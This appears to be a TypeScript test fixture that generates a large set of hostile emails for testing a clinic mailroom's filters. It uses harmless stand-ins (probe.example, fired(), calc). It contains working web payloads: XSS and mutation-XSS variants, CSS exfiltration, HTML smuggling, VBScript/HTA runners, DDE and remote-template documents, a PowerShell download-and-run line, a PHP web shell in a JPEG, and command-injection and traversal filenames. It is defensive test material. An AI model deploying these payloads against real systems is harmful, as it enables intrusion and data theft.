/**
 * Hostile mails, made by rule: what has been used against mail programs and filters, each against this mailroom. Hosts end in
 * `.example` or are addresses of the test itself; payloads only ever announce themselves (a script that runs calls `fired()`,
 * a request that goes out goes to `probe.example`).
 */
import { Buffer } from 'node:buffer'
import { deflateSync } from 'node:zlib'
import { latin, makeOle, makePackedPdf, makePdf, makePng, makeZip, utf8 } from './make-files.ts'
import { base64 } from './raw-mail.ts'

export interface HostileMail {
  readonly name: string
  readonly bytes: Uint8Array
}

const OUT = 'https://probe.example/x'
const RUN = 'fired()'

export function makeHostileSet(): HostileMail[] {
  return [
    ...HTML.map(([name, html], n) => ({ name: `html ${n} ${name}`, bytes: htmlMail(html) })),
    ...SVGS.map(([name, svg], n) => ({ name: `svg inline ${n} ${name}`, bytes: htmlMail(svg) })),
    ...SVGS.map(([name, svg], n) => ({
      name: `svg file ${n} ${name}`,
      bytes: fileMail(`photo${n}.svg`, 'image/svg+xml', utf8(svg)),
    })),
    ...PAGES.map(([name, html], n) => ({
      name: `page file ${n} ${name}`,
      bytes: fileMail(`form${n}.html`, 'text/html', utf8(html)),
    })),
    ...FILES.map(([name, file, type, body]) => ({ name: `file ${name}`, bytes: fileMail(file, type, body) })),
    ...NAMES.map((file, n) => ({
      name: `name ${n}`,
      bytes: fileMail(file, 'application/octet-stream', latin('MZ\x90\0')),
    })),
    ...PICTURES.map(([name, body, type]) => ({
      name: `picture ${name}`,
      bytes: fileMail('photo.jpg', type, body, '<photo@x>'),
    })),
    ...CALENDARS.map(([name, lines], n) => ({
      name: `calendar ${n} ${name}`,
      bytes: partMail('text/calendar; method=REQUEST; charset=utf-8', lines.join('\r\n')),
    })),
    ...CARDS.map((lines, n) => ({
      name: `card ${n}`,
      bytes: fileMail('doctor.vcf', 'text/vcard', utf8(lines.join('\r\n'))),
    })),
    ...MIME.map(([name, lines]) => ({
      name: `mime ${name}`,
      bytes: new Uint8Array(Buffer.from(lines.join('\r\n'), 'latin1')),
    })),
    ...HEADINGS.map(([name, lines]) => ({
      name: `heading ${name}`,
      bytes: new Uint8Array(Buffer.from([...lines, '', 'text'].join('\r\n'), 'utf8')),
    })),
    ...PLAIN.map(([name, text]) => ({ name: `plain ${name}`, bytes: partMail('text/plain; charset=utf-8', text) })),
  ]
}

function head(...more: readonly string[]): string[] {
  return [
    'From: Ann Berg <ann@mail.example>',
    'To: desk@clinic.example',
    'Subject: Reaction after my visit',
    'MIME-Version: 1.0',
    ...more,
  ]
}

function htmlMail(html: string): Uint8Array {
  return partMail('text/html; charset=utf-8', html)
}

function partMail(type: string, text: string): Uint8Array {
  return new Uint8Array(
    Buffer.from([...head(`Content-Type: ${type}`, 'Content-Transfer-Encoding: base64'), '', base64(text)].join('\r\n')),
  )
}

function fileMail(name: string, type: string, body: Uint8Array, contentId?: string): Uint8Array {
  const lines = [
    ...head('Content-Type: multipart/mixed; boundary=b'),
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    contentId === undefined ? '<p>See the file.</p>' : '<p>See the photo.</p><img src="cid:photo@x" onerror="fired()">',
    '--b',
    `Content-Type: ${type}`,
    `Content-Disposition: ${contentId === undefined ? 'attachment' : 'inline'}; filename*=utf-8''${percent(name)}`,
    ...(contentId === undefined ? [] : [`Content-ID: ${contentId}`]),
    'Content-Transfer-Encoding: base64',
    '',
    base64(body),
    '--b--',
  ]
  return new Uint8Array(Buffer.from(lines.join('\r\n')))
}

/** Every byte escaped, halves of pairs as the bytes that no standard allows. */
function percent(name: string): string {
  return [...Buffer.from(name, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
}

type Named = readonly (readonly [name: string, text: string])[]

const HANDLERS =
  'onload onerror onclick onmouseover onfocus onblur onanimationstart ontransitionend onpointerenter ontoggle onbeforeprint onscroll onresize onpageshow onhashchange onmessage onwheel oncopy onpaste oninput'.split(
    ' ',
  )

const HTML: Named = [
  ['script', `<script>${RUN}</script>`],
  ['script in capitals', `<SCRIPT SRC=${OUT}></SCRIPT>`],
  ['script with a slash', `<script/x>${RUN}</script/x>`],
  ['script never closed', `<script>${RUN}`],
  ['script in a title', `<title><script>${RUN}</script></title>`],
  ['script behind a comment', `<!--><script>${RUN}</script>-->`],
  ['script in a broken comment', `<!--!><script>${RUN}</script>`],
  ['script in conditional comments', `<!--[if gte mso 9]><script>${RUN}</script><![endif]-->`],
  ['script in a textarea', `<textarea></textarea><script>${RUN}</script>`],
  ['script in noscript', `<noscript><p title="</noscript><script>${RUN}</script>">`],
  ['script in a style', `<style><!--</style><script>${RUN}</script>-->`],
  ['script in xmp', `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`],
  ['script in plaintext', `<plaintext><script>${RUN}</script>`],
  ['script in a template', `<template><script>${RUN}</script></template>`],
  [
    'script in math',
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  ],
  ['script in select', `<select><template><script>${RUN}</script></template></select>`],
  ['script in CDATA', `<svg><![CDATA[><image xlink:href="x" onerror=${RUN}></image>]]></svg>`],
  ['module script', `<script type=module>import "${OUT}"</script>`],
  ['import map', `<script type=importmap>{"imports":{"a":"${OUT}"}}</script>`],
  ...HANDLERS.map(
    (handler) =>
      [handler, `<img src=x ${handler}="${RUN}"><body ${handler}=${RUN}><details open ${handler}=${RUN}>`] as const,
  ),
  ['handler with odd quotes', `<img src=x onerror=\`${RUN}\`>`],
  ['handler after a slash', `<img/src=x/onerror=${RUN}>`],
  ['handler with a null', `<img src=x on\0error=${RUN}>`],
  ['handler in a closing tag', `</p onclick=${RUN}>x`],
  ['javascript link', `<a href="javascript:${RUN}">x</a>`],
  ['javascript link, tabs', `<a href="java\tscript:${RUN}">x</a>`],
  ['javascript link, entities', `<a href="&#106;&#97;vascript&colon;${RUN}">x</a>`],
  ['javascript link, leading control', `<a href="\u0001javascript:${RUN}">x</a>`],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data link', `<a href="data:text/html,<script>${RUN}</script>">x</a>`],
  ['data link, base64', `<a href="data:text/html;base64,${base64(`<script>${RUN}</script>`)}">x</a>`],
  ['blob link', '<a href="blob:https://probe.example/1">x</a>'],
  ['file link', '<a href="file:///c:/windows/system32/calc.exe">x</a>'],
  ['share link', String.raw`<a href="\\probe.example\share\x.exe">x</a>`],
  [
    'protocol handlers',
    '<a href="ms-word:ofe|u|https://probe.example/x.docx">x</a><a href="search-ms:query=x&crumb=location:\\\\probe.example">y</a><a href="ms-msdt:/id PCWDiagnostic">z</a>',
  ],
  ['link with ping', `<a href="${OUT}" ping="${OUT}" download>x</a>`],
  ['link to a window', `<a href="${OUT}" target=_blank rel=opener>x</a>`],
  ['image map', `<map name=m><area href="javascript:${RUN}" shape=rect coords="0,0,9,9"></map><img usemap=#m src=x>`],
  ['remote picture', `<img src="${OUT}.png">`],
  ['remote picture, srcset', `<img srcset="${OUT}.png 1x, ${OUT}2.png 2x" sizes=100vw>`],
  ['remote picture, lazy', `<img loading=lazy data-src="${OUT}" src="${OUT}">`],
  ['picture element', `<picture><source srcset="${OUT}"><img src="${OUT}"></picture>`],
  ['tracking pixel', `<img src="${OUT}" width=1 height=1>`],
  ['background attributes', `<body background="${OUT}"><table background="${OUT}"><tr><td background="${OUT}">x`],
  ['input picture', `<input type=image src="${OUT}" onerror=${RUN}>`],
  [
    'video and audio',
    `<video src="${OUT}" poster="${OUT}" autoplay onloadstart=${RUN}><source src="${OUT}"></video><audio autoplay src="${OUT}"></audio><track src="${OUT}">`,
  ],
  ['frame', `<iframe src="${OUT}"></iframe>`],
  ['frame with srcdoc', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['frame with javascript', `<iframe src="javascript:${RUN}"></iframe>`],
  ['frameset', `<frameset onload=${RUN}><frame src="${OUT}"></frameset>`],
  ['object', `<object data="${OUT}" type=text/html></object>`],
  ['object with data', `<object data="data:text/html;base64,${base64(`<script>${RUN}</script>`)}"></object>`],
  ['embed', `<embed src="${OUT}" type=application/x-shockwave-flash>`],
  ['applet', `<applet code=x archive="${OUT}"></applet>`],
  ['portal', `<portal src="${OUT}"></portal><fencedframe src="${OUT}"></fencedframe>`],
  ['meta refresh', `<meta http-equiv=refresh content="0;url=${OUT}">`],
  ['meta refresh to data', `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`],
  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
  ['base', `<base href="${OUT}/"><a href="login">x</a><img src=y>`],
  ['base target', '<base target=_top><a href="https://probe.example">x</a>'],
  ['stylesheet', `<link rel=stylesheet href="${OUT}.css">`],
  [
    'preload',
    `<link rel=preload as=script href="${OUT}"><link rel=prefetch href="${OUT}"><link rel=dns-prefetch href="//probe.example"><link rel=preconnect href="${OUT}"><link rel=prerender href="${OUT}">`,
  ],
  ['manifest and icon', `<link rel=manifest href="${OUT}"><link rel=icon href="${OUT}">`],
  ['html import', `<link rel=import href="${OUT}">`],
  ['style import', `<style>@import url("${OUT}");</style>`],
  ['style background', `<style>body{background:url(${OUT})}</style><p style="background-image:url(${OUT})">x`],
  ['style font', `<style>@font-face{font-family:f;src:url(${OUT})}p{font-family:f}</style><p>x`],
  ['style cursor and list', `<p style="cursor:url(${OUT}),auto">x<ul style="list-style-image:url(${OUT})"><li>y</ul>`],
  ['style content', `<style>p::before{content:url(${OUT})}</style><p>x`],
  ['style image-set', `<p style="background-image:image-set(url(${OUT}) 1x)">x`],
  [
    'style cross-fade and mask',
    `<p style="mask:url(${OUT});filter:url(${OUT}#f);clip-path:url(${OUT}#c);shape-outside:url(${OUT})">x`,
  ],
  [
    'style exfiltration by attribute',
    `<style>input[value^=a]{background:url(${OUT}?a)}input[value^=b]{background:url(${OUT}?b)}</style><input value=abc>`,
  ],
  [
    'style exfiltration by font',
    `<style>@font-face{font-family:s;src:url(${OUT}?s);unicode-range:U+53}p{font-family:s}</style><p>Secret</p>`,
  ],
  [
    'style exfiltration by scrollbar',
    `<style>::-webkit-scrollbar{background:url(${OUT})}body{overflow:scroll}</style>`,
  ],
  ['style expression', `<p style="width:expression(${RUN})">x`],
  ['style behaviour', `<p style="behavior:url(${OUT}.htc);-moz-binding:url(${OUT}#x)">x`],
  ['style escapes', String.raw`<p style="background:\75\72\6c(https://probe.example/x)">x`],
  [
    'style over everything',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Log in again</div>',
  ],
  [
    'form',
    `<form action="${OUT}" method=post><input name=user><input type=password name=p><button>Log in</button></form>`,
  ],
  [
    'form with formaction',
    `<form><button formaction="${OUT}">x</button><input type=submit formaction="javascript:${RUN}"></form>`,
  ],
  ['form that takes over', `<form id=f></form><button form=f formaction="${OUT}">x</button>`],
  ['autofocus', `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}>`],
  [
    'dialogs and popovers',
    `<dialog open onclose=${RUN}>x</dialog><div popover id=p onbeforetoggle=${RUN}>y</div><button popovertarget=p>z</button>`,
  ],
  ['contenteditable', `<div contenteditable onfocus=${RUN} autofocus>x</div>`],
  ['slots and shadow', `<div><template shadowrootmode=open><script>${RUN}</script><img src=${OUT}></template></div>`],
  ['custom element', `<x-y onclick=${RUN} style="animation:a" onanimationstart=${RUN}></x-y>`],
  ['marquee', `<marquee onstart=${RUN}>x</marquee>`],
  ['isindex', `<isindex action="javascript:${RUN}" type=image>`],
  ['bgsound and layer', `<bgsound src="javascript:${RUN}"><layer src="${OUT}"></layer>`],
  [
    'xml island',
    `<xml id=x src="${OUT}"></xml><xml><i><b>&lt;img src=1 onerror=${RUN}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
  ],
  ['VML', `<v:rect style="behavior:url(#default#VML)" onload="${RUN}"><v:fill src="${OUT}"/></v:rect>`],
  [
    'mutation: foreign table',
    `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  ],
  ['mutation: form nesting', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ['mutation: noscript', `<noscript><style></noscript><img src=x onerror=${RUN}></style></noscript>`],
  ['mutation: listing', `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`],
  [
    'mutation: annotation',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  ],
  ['mutation: option', `<select><option><style></option></select><img src=x onerror=${RUN}></style>`],
  ['mutation: frameset', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ['mutation: deep', `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${RUN}></style></svg>`],
  ['entities twice', `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`],
  ['entities without end', `&ltscript&gt${RUN}&lt/script&gt`],
  ['attribute breaks out', `<p title='"><script>${RUN}</script>'>x</p><img alt='"><script>${RUN}</script>' src=x>`],
  ['alt with markup', `<img alt="<script>${RUN}</script>" src="cid:none">`],
  ['turned text', 'Send to \u202emoc.knab\u202c now'],
  ['zero width', 'pay\u200bpal pass\u00adword \u2060\ufeff'],
  ['tags block', `see \u{e0041}\u{e0042} this`],
  ['lone halves', 'half \ud83d and \udc00 end'],
  ['controls', 'bell \u0007 escape \u001b[31m red \u009b31m nul \0 end'],
  ['hidden words', `<div style="display:none">${'padding '.repeat(500)}</div><p>real`],
  ['white on white', '<p style="color:#fff;background:#fff">seen by nobody</p><p>seen'],
  ['deep nesting', `${'<b>'.repeat(5_000)}x`],
  ['many tags', '<br>'.repeat(120_000)],
  ['long attribute', `<p title="${'x'.repeat(500_000)}">y</p>`],
  ['long word', 'x'.repeat(300_000)],
  ['nothing', ''],
  ['only a null', '\0'],
  ['cid to another mail', '<img src="mid:other@x/photo@y"><img src="cid:../../etc/passwd"><a href="cid:photo@x">x</a>'],
  ['data picture that is a page', `<img src="data:image/png;base64,${base64('<html><script>fired()</script>')}">`],
  ['data picture that is a drawing', `<img src="data:image/svg+xml;base64,${base64('<svg onload="fired()"/>')}">`],
  ['data picture with parameters', `<img src="data:image/png;x=&quot;><script>fired()</script>;base64,AAAA">`],
  ['data picture that is one', `<img src="data:image/png;base64,${base64(makePng(8, 8))}" onload="fired()">`],
]

const SVGS: Named = [
  ['script', `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`],
  ['onload', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><rect width="9" height="9"/></svg>`],
  [
    'foreign page',
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></body></foreignObject></svg>`,
  ],
  [
    'use',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="${OUT}#x"/></svg>`,
  ],
  [
    'image',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${OUT}" href="${OUT}"/></svg>`,
  ],
  [
    'link',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${RUN}"><text y="9">press</text></a></svg>`,
  ],
  [
    'animate',
    `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${RUN}"/><text y="9">press</text></a></svg>`,
  ],
  ['set', `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="${RUN}"/></svg>`],
  ['style', `<svg xmlns="http://www.w3.org/2000/svg"><style>@import "${OUT}";*{fill:url(${OUT})}</style></svg>`],
  [
    'entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY s "<script>${RUN}</script>">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;&s;</text></svg>`,
  ],
  [
    'stylesheet instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="${OUT}" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  ],
  [
    'handler',
    `<svg xmlns="http://www.w3.org/2000/svg"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  ],
]

const PAGES: Named = [
  ['form', `<!doctype html><form action="${OUT}"><input type=password></form>`],
  ['moves on', `<!doctype html><meta http-equiv=refresh content="0;url=${OUT}">`],
  ['script moves on', `<html><script>location="${OUT}"</script>`],
  [
    'smuggled',
    `<html><script>const b=atob("${'TVqQAAMAAAAEAAAA'.repeat(80)}");const a=document.createElement("a");a.href=URL.createObjectURL(new Blob([b]));a.download="invoice.exe";a.click()</script>`,
  ],
  ['smuggled by letters', `<html><script>document.write(unescape("%3Cscript%3E${RUN}%3C/script%3E"))</script>`],
  ['frame', `<html><iframe src="${OUT}"></iframe>`],
  ['HTA', `<html><hta:application id=x><script language=VBScript>CreateObject("WScript.Shell").Run "calc"</script>`],
  ['in UTF-16', `\ufeff<html><script>${RUN}</script>`],
  [
    'MHTML',
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=c\r\n\r\n--c\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>\r\n--c--`,
  ],
]

const OOXML = '[Content_Types].xml'
const EXE = latin('MZ\x90\0\x03\0\0\0\x04\0\0\0')
const LNK = latin(`L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(60)}cmd.exe /c calc`)
type FileRow = readonly [name: string, file: string, type: string, body: Uint8Array]

const FILES: readonly FileRow[] = [
  ['program', 'setup.exe', 'application/x-msdownload', EXE],
  ['program as photo', 'IMG_2041.jpg', 'image/jpeg', EXE],
  ['program without name', '', 'image/jpeg', EXE],
  ['screen saver', 'lips.scr', 'application/octet-stream', EXE],
  ['shortcut', 'IMG_2041.lnk', 'application/octet-stream', LNK],
  ['shortcut as photo', 'IMG_2041.jpg.lnk', 'image/jpeg', LNK],
  [
    'internet shortcut',
    'photos.url',
    'application/octet-stream',
    utf8(`[InternetShortcut]\r\nURL=file://probe.example/x.exe\r\nIconFile=\\\\probe.example\\i.ico`),
  ],
  [
    'HTA',
    'form.hta',
    'application/hta',
    utf8('<script language=VBScript>CreateObject("WScript.Shell").Run "calc"</script>'),
  ],
  ['JavaScript', 'photos.js', 'text/javascript', utf8('new ActiveXObject("WScript.Shell").Run("calc")')],
  ['VBScript', 'photos.vbs', 'text/vbscript', utf8('CreateObject("WScript.Shell").Run "calc"')],
  ['script file', 'photos.wsf', 'text/plain', utf8('<job><script language="JScript">x</script></job>')],
  ['PowerShell', 'photos.ps1', 'text/plain', utf8('iex (iwr https://probe.example/x)')],
  ['batch', 'photos.bat', 'text/plain', utf8('@echo off\r\ncalc')],
  ['registry', 'fix.reg', 'text/plain', utf8('Windows Registry Editor Version 5.00')],
  ['settings', 'x.settingcontent-ms', 'text/xml', utf8('<PCSettings><SearchableContent/></PCSettings>')],
  ['library', 'x.library-ms', 'text/xml', utf8('<libraryDescription/>')],
  ['profile', 'mail.mobileconfig', 'application/x-apple-aspen-config', utf8('<plist/>')],
  ['disk image', 'photos.iso', 'application/octet-stream', latin(`${'\0'.repeat(0x8001)}CD001`)],
  ['virtual disk', 'photos.vhd', 'application/octet-stream', latin('conectix')],
  ['help file', 'photos.chm', 'application/octet-stream', latin('ITSF\x03')],
  ['OneNote', 'photos.one', 'application/onenote', latin('\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1')],
  [
    'Java',
    'viewer.jar',
    'application/java-archive',
    makeZip([{ name: 'META-INF/MANIFEST.MF', body: 'Main-Class: X' }]),
  ],
  [
    'macro, old',
    'consent.doc',
    'application/msword',
    makeOle([{ name: 'WordDocument' }, { name: 'Macros', storage: true }, { name: '_VBA_PROJECT' }]),
  ],
  [
    'macro, new',
    'consent.docm',
    'application/vnd.ms-word.document.macroEnabled.12',
    makeZip([{ name: OOXML }, { name: 'word/vbaProject.bin', body: 'x' }]),
  ],
  [
    'macro, new, wrong name',
    'consent.docx',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    makeZip([{ name: OOXML }, { name: 'word/vbaProject.bin', body: 'x' }]),
  ],
  [
    'Excel 4',
    'prices.xls',
    'application/vnd.ms-excel',
    makeOle([{ name: 'Workbook', body: latin('\x85\0\x08\0\0\0\0\0\0\x01\0\0') }]),
  ],
  [
    'DDE',
    'prices.docx',
    'application/octet-stream',
    makeZip([
      { name: OOXML },
      { name: 'word/document.xml', body: '<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>' },
    ]),
  ],
  [
    'template from elsewhere',
    'prices.docx',
    'application/octet-stream',
    makeZip([
      { name: OOXML },
      {
        name: 'word/_rels/settings.xml.rels',
        body: '<Relationship Type="x/attachedTemplate" Target="https://probe.example/t.dotm" TargetMode="External"/>',
      },
    ]),
  ],
  [
    'object from elsewhere',
    'prices.docx',
    'application/octet-stream',
    makeZip([
      { name: OOXML },
      {
        name: 'word/_rels/document.xml.rels',
        body: '<Relationship Type="x/oleObject" Target="mhtml:https://probe.example/x!https://probe.example/x" TargetMode="External"/>',
      },
    ]),
  ],
  [
    'object inside',
    'prices.docx',
    'application/octet-stream',
    makeZip([{ name: OOXML }, { name: 'word/embeddings/oleObject1.bin', body: EXE }]),
  ],
  [
    'RTF object',
    'letter.rtf',
    'application/rtf',
    latin('{\\rtf1{\\object\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000}}}'),
  ],
  ['RTF as doc', 'letter.doc', 'application/msword', latin('{\\rtf1{\\*\\template https://probe.example/x}}')],
  [
    'locked document',
    'offer.docx',
    'application/octet-stream',
    makeOle([{ name: 'EncryptedPackage' }, { name: 'EncryptionInfo' }]),
  ],
  ['query file', 'prices.iqy', 'text/plain', utf8('WEB\r\n1\r\nhttps://probe.example/x')],
  ['symbolic link', 'prices.slk', 'text/plain', utf8('ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1')],
  ['CSV with formula', 'prices.csv', 'text/csv', utf8(`=cmd|' /c calc'!A1,@SUM(1)`)],
  [
    'PDF with script',
    'bill.pdf',
    'application/pdf',
    makePdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>', '<< /OpenAction 2 0 R >>'),
  ],
  ['PDF with packed script', 'bill.pdf', 'application/pdf', makePackedPdf('<< /S /JavaScript /JS (x) >>')],
  ['PDF with escaped script', 'bill.pdf', 'application/pdf', makePdf('<< /S /#4A#61vaScript /J#53 (x) >>')],
  ['PDF that launches', 'bill.pdf', 'application/pdf', makePdf('<< /S /Launch /Win << /F (cmd.exe) >> >>')],
  ['PDF with a file', 'bill.pdf', 'application/pdf', makePdf('<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>')],
  [
    'PDF that submits',
    'bill.pdf',
    'application/pdf',
    makePdf('<< /S /SubmitForm /F (https://probe.example/x) >>', '<< /AcroForm << /XFA 4 0 R >> >>'),
  ],
  [
    'PDF that opens',
    'bill.pdf',
    'application/pdf',
    makePdf('<< /OpenAction << /S /URI /URI (https://probe.example/x) >> >>'),
  ],
  ['PDF to a share', 'bill.pdf', 'application/pdf', makePdf('<< /S /GoToE /F (\\\\\\\\probe.example\\\\x) >>')],
  ['PDF with a page of a mile', 'bill.pdf', 'application/pdf', makePdf('<< /Type /Page /MediaBox [0 0 1000000 1] >>')],
  ['PDF behind junk', 'bill.pdf', 'application/pdf', latin(`MZ${' '.repeat(500)}%PDF-1.4\n<< /JS (x) >>`)],
  ['PostScript', 'bill.ps', 'application/postscript', latin('%!PS\n(x) run')],
  ['archive with a program', 'photos.zip', 'application/zip', makeZip([{ name: 'IMG_2041.jpg.exe', body: EXE }])],
  ['archive with a shortcut', 'photos.zip', 'application/zip', makeZip([{ name: 'IMG_2041.lnk', body: LNK }])],
  ['archive, locked', 'photos.zip', 'application/zip', makeZip([{ name: 'photos.exe', locked: true }])],
  [
    'archive in archive',
    'photos.zip',
    'application/zip',
    makeZip([{ name: 'inner.zip', body: makeZip([{ name: 'x.js' }]) }]),
  ],
  [
    'archive out of its folder',
    'photos.zip',
    'application/zip',
    makeZip([{ name: '../../Startup/x.bat', body: 'calc' }, { name: 'C:\\x.exe' }, { name: '/etc/cron.d/x' }]),
  ],
  ['archive bomb by claim', 'photos.zip', 'application/zip', makeZip([{ name: 'a', body: 'x', size: 4_000_000_000 }])],
  ['archive bomb by packing', 'photos.zip', 'application/zip', makeZip([{ name: 'a', body: '\0'.repeat(30_000_000) }])],
  [
    'archive bomb by number',
    'photos.zip',
    'application/zip',
    makeZip(Array.from({ length: 5_500 }, (_, n) => ({ name: `${n}.txt` }))),
  ],
  [
    'archive that says two things',
    'photos.zip',
    'application/zip',
    makeZip([{ name: 'a.jpg', localName: 'a.exe', body: EXE }]),
  ],
  ['archive behind a program', 'photos.zip', 'application/zip', makeZip([{ name: 'a.jpg' }], { before: EXE })],
  [
    'archive with names that steer',
    'photos.zip',
    'application/zip',
    makeZip([
      { name: 'ann\u202egpj.exe' },
      { name: 'a\u0007\u001b[2Jb.txt' },
      { name: '<img src=x onerror=fired()>.txt' },
    ]),
  ],
  ['RAR', 'photos.rar', 'application/vnd.rar', latin('Rar!\x1a\x07\x01\0\0\0\0\0\0\x04')],
  ['7z', 'photos.7z', 'application/x-7z-compressed', latin('7z\xbc\xaf\x27\x1c\0\x04')],
  ['gzip with a program', 'photos.gz', 'application/gzip', latin('\x1f\x8b\x08\x08\0\0\0\0\0\x03photo.exe\0\x03\0')],
  ['cabinet', 'photos.cab', 'application/vnd.ms-cab-compressed', latin('MSCF\0\0\0\0')],
  ['ACE', 'photos.ace', 'application/octet-stream', latin('\0\0\0\0\0\0\0**ACE**')],
  ['Outlook package', 'winmail.dat', 'application/ms-tnef', latin('\x78\x9f\x3e\x22\x01\0')],
  [
    'Outlook message',
    'complaint.msg',
    'application/vnd.ms-outlook',
    makeOle([{ name: '__properties_version1.0' }, { name: '__nameid_version1.0', storage: true }]),
  ],
  ['installer', 'viewer.msi', 'application/octet-stream', makeOle([{ name: '\u4840\u3b3f\u43f2\u4438' }])],
  [
    'XML with a style',
    'data.xml',
    'text/xml',
    utf8(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${OUT}"?><x/>`),
  ],
  [
    'XML bomb',
    'data.xml',
    'text/xml',
    utf8('<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><l>&b;</l>'),
  ],
  [
    'XHTML',
    'page.xhtml',
    'application/xhtml+xml',
    utf8(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`),
  ],
  ['text with a page', 'notes.txt', 'text/plain', utf8(`<script>${RUN}</script><img src="${OUT}">`)],
  ['text that steers', 'notes.txt', 'text/plain', utf8('Read \u202ethis\u202c and \u001b]0;x\u0007 that')],
  ['Flash', 'video.swf', 'application/x-shockwave-flash', latin('CWS\x0a')],
  ['sound', 'voice.wav', 'audio/wav', latin('RIFF\0\0\0\0WAVEfmt ')],
  ['empty', 'empty.pdf', 'application/pdf', new Uint8Array(0)],
]

const NAMES: readonly string[] = [
  'ann\u202egpj.exe',
  'photo\u2067gpj\u2069.scr',
  'IMG\u200f_1.jpg',
  `photo.jpg${' '.repeat(100)}.exe`,
  'photo.jpg....exe',
  '../../etc/passwd',
  '..\\..\\Windows\\x.exe',
  'C:\\x.exe',
  '/etc/passwd',
  'CON',
  'NUL.txt',
  'AUX.jpg',
  'a:b.jpg',
  'file.jpg::$DATA',
  'x\0y.jpg',
  'x\r\nContent-Type: text/html',
  '<script>fired()</script>.jpg',
  '"><img src=x onerror=fired()>.jpg',
  "' onload='fired()",
  '&lt;b&gt;.jpg',
  'desktop.ini',
  '.htaccess',
  'message.html',
  'picture-1.jpg',
  `${'x'.repeat(5_000)}.jpg`,
  '\u001b[2J.jpg',
  'p\u{e0041}hoto.jpg',
  '\ud800.jpg',
  'рhoto.jpg',
  `$\{jndi:ldap://probe.example/x}.jpg`,
  '$(calc).jpg',
  '`calc`.jpg',
  '|calc',
  '%00.jpg',
  '=cmd|x.csv',
]

/** A JPEG of one grey block, from its parts, so that anything can be put between them. */
const JPEG = {
  start: '\xff\xd8',
  tables: `\xff\xdb\0C\0${'\x01'.repeat(64)}\xff\xc0\0\x0b\x08\0\x08\0\x08\x01\x01\x11\0\xff\xc4\0\x14\0\x01${'\0'.repeat(15)}\x03\xff\xc4\0\x14\x10\x01${'\0'.repeat(15)}\0`,
  scan: '\xff\xda\0\x08\x01\x01\0\0?\0\x7f\xff',
  end: '\xff\xd9',
}
const segment = (marker: string, body: string): string =>
  `\xff${marker}${String.fromCharCode((body.length + 2) >> 8, (body.length + 2) & 255)}${body}`
const jpeg = (before: string, after = ''): Uint8Array =>
  latin(`${JPEG.start}${before}${JPEG.tables}${JPEG.scan}${JPEG.end}${after}`)
const exif = (text: string): string =>
  segment(
    '\xe1',
    `Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x0e\0\x02${String.fromCharCode(0, 0, 0, text.length + 1)}\0\0\0\x1a\0\0\0\0${text}\0`,
  )

const PICTURES: readonly (readonly [name: string, body: Uint8Array, type: string])[] = [
  ['plain', jpeg(''), 'image/jpeg'],
  ['script in EXIF', jpeg(exif('<script>fired()</script>')), 'image/jpeg'],
  ['script in a comment', jpeg(segment('\xfe', '<script>fired()</script>')), 'image/jpeg'],
  ['PHP in a comment', jpeg(segment('\xfe', '<?php system($_GET[0]); ?>')), 'image/jpeg'],
  [
    'XMP',
    jpeg(segment('\xe1', 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><script>fired()</script></x:xmpmeta>')),
    'image/jpeg',
  ],
